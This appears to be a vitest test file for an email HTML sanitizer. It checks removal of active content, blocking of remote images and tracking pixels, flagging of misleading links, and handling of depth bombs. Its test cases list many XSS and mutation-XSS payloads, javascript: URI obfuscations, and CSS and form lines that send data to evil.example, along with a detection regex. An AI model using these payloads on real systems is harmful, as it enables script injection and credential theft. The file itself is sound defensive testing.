import { describe, expect, test } from 'vitest'
import { letterPage } from './page.ts'

const PICTURE = Buffer.from('89504e470d0a1a0a', 'hex')
const parts = new Map([['logo@orbita', { type: 'image/png', content: PICTURE }]])
const shown = (html: string, remote = false) => letterPage(html, { parts, remote })!

/** Everything that a browser would take as a place to fetch from, or as something to run. */
const ALIVE =
  /<(?:script|iframe|object|embed|form|input|button|base|meta|link|svg|math|style|template|video|audio|source)\b|\son\w+\s*=|javascript:|vbscript:|expression\s*\(|@import|https?:\/\/evil/i

describe('nothing of a hostile letter is left alive', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/a.png" onload="alert(1)">',
    '<body onload=alert(1) background="https://evil.example/b.png">',
    '<svg><script>alert(1)</script><image href="https://evil.example/c.png"/></svg>',
    '<svg/onload=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript&colon;alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="/x">x</a><img src="y.png">',
    '<link rel=stylesheet href="https://evil.example/s.css">',
    '<style>@import url("https://evil.example/i.css"); @font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
    '<style>p{background:url(//evil.example/p.png)}</style>',
    '<style>p{background:\\75rl(https://evil.example/p.png)}</style>',
    '<style>p{background:image-set("https://evil.example/p.png" 1x)}</style>',
    '<style>p{--x:url(https://evil.example/p.png);background:var(--x)}</style>',
    '<style>p{color:red}</style/><img src=x onerror=alert(1)></style>',
    '<style>p::before{content:"</style><script>alert(1)</script>"}</style>',
    '<style>p{font-family:"</style><script>alert(1)</script>"}</style>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="background:url(https://evil.example/p.png)">x</p>',
    '<p style="behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml)">x</p>',
    '<form action="https://evil.example/f"><input name=password><button formaction="https://evil.example/g">ok</button></form>',
    '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/b.png">',
    '<picture><source srcset="https://evil.example/s.png"><img></picture>',
    '<video poster="https://evil.example/v.png"><source src="https://evil.example/v.mp4"></video>',
    '<!--[if gte mso 9]><img src="https://evil.example/mso.png"><![endif]-->',
    '<!-- <!-- --><img src=x onerror=alert(1)> -->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<img alt="`><script>alert(1)</script>" src="x">',
    '<a ping="https://evil.example/ping" onclick="alert(1)" style="x">x</a>',
    '<table background="https://evil.example/t.png"><td background="https://evil.example/u.png">x',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
  ])('%s', html => {
    const page = shown(html)
    // what stands in quotes is said and not done
    const tags = `${page.body} ${page.sheet}`.replace(/ (?:alt|title)="[^"]*"/g, '')
    expect(tags).not.toMatch(ALIVE)
    expect(page.sheet).not.toContain('<')
    expect(page.origins).toEqual([])
  })
})

test('what was left open takes nothing of the letter with it', () => {
  for (const open of [
    '<svg><g>',
    '<math><mtext><mglyph>',
    '<head><meta charset=x>',
    '<object>',
    '<select>',
    '<plaintext>',
  ])
    expect(shown(`${open}<p>Где счёт?</p>`).body).toContain('<p>Где счёт?</p>')
})

test('a style that lies over the page, or takes its place, is not kept; how it looks is', () => {
  const { body, sheet } = shown(
    '<style>.a{position:fixed;z-index:9;top:0;color:#123;transform:scale(9);pointer-events:none}' +
      '@media (max-width:600px){td{padding:4px}} a::after{color:red} a:after{color:red}</style>' +
      '<p style="position:absolute;inset:0;margin:0 auto;font:14px Arial, sans-serif">x</p>',
  )
  expect(sheet).toBe('.a{color:#123}@media (max-width:600px){td{padding:4px}}')
  expect(body).toBe('<p style="margin:0 auto;font:14px Arial,sans-serif">x</p>')
})

test('pictures elsewhere stay away until they are asked for, each with its host', () => {
  const letter =
    '<img src="https://shop.example/a.png" width=300><img src="//shop.example/b.png"><img src="http://cdn.example/c.gif">' +
    '<p style="background:#fff url(https://cdn.example/d.png)">x</p>'
  const away = shown(letter)
  expect(away.remote).toEqual([
    { host: 'shop.example', count: 2 },
    { host: 'cdn.example', count: 2 },
  ])
  expect(away.body).not.toContain('example')
  expect(away.body).toContain('<p style="background:#fff none">')
  const asked = shown(letter, true)
  expect(asked.body).toContain('src="https://shop.example/a.png"')
  expect(asked.body).toContain('url(https://cdn.example/d.png)')
  expect(asked.origins).toEqual(['https://shop.example', 'http://cdn.example', 'https://cdn.example'])
})

test.each([
  '<img src="https://track.example/o.gif?u=1" width=1 height=1>',
  '<img src="https://track.example/o.gif" style="display:none">',
  '<img src="https://track.example/o.gif" style="width:1px!important;height:1px">',
  '<img src="https://track.example/o.gif" width="0" style="max-height:0px">',
])('a picture that nobody sees is counted, and never fetched: %s', html => {
  const page = shown(html, true)
  expect(page.trackers).toEqual([{ host: 'track.example', count: 1 }])
  expect(page.body).not.toContain('track.example')
  expect(page.origins).toEqual([])
})

test("a letter's own pictures stand in it, as often as there is room", () => {
  const { body } = shown('<img src="cid:logo@orbita"><img src="CID:logo%40orbita"><img src="cid:none">')
  expect(body.match(/data:image\/png;base64,iVBORw0KGgo=/g)).toHaveLength(2)
  const large = new Map([['big', { type: 'image/png', content: Buffer.alloc(5_000_000) }]])
  const many = letterPage('<img src="cid:big">'.repeat(50), { parts: large, remote: false })!
  expect(many.body.match(/data:image/g)).toHaveLength(2)
  expect(many.body.match(/data-away="picture"/g)).toHaveLength(48)
})

test('a link opens beside, and says where it leads where its words say otherwise', () => {
  const { body, links } = shown(
    '<a href="https://evil.example/login">www.bank.example</a> <a href="https://pay.bank.example/">bank.example</a>' +
      '<a href="https://пример.example/">сюда</a> <a href="mailto:anna@orbita.example">Anna</a> <a href="#top">up</a>' +
      '<a href="https://files.example/1">report.pdf</a>',
  )
  expect(links.map(({ host, misleading }) => [host, misleading])).toEqual([
    ['evil.example', true],
    ['pay.bank.example', false],
    ['xn--e1afmkfd.example', false],
    ['anna@orbita.example', false],
    ['files.example', false],
  ])
  expect(body).toContain('rel="noopener noreferrer nofollow"')
  expect(body).toContain('data-leads-to="evil.example"')
  expect(body).toContain('<a href="#top">up</a>')
})

test('depth bombs and long letters end in time', () => {
  expect(letterPage('<div>'.repeat(10_000_000), { parts, remote: false })).toBeNull()
  expect(shown(`<p>${'x'.repeat(5_000_000)}</p>`).cut).toBe(true)
  expect(shown(`<style>${'('.repeat(300_000)}</style>x`).body).toBe('x')
  expect(shown(`<p style="color:${'calc('.repeat(3000)}">x</p>`).body).toContain('x')
  expect(shown(`<p ${'a=b '.repeat(200_000)}>x</p>`).body).toBe('<p>x</p>')
}, 10_000)
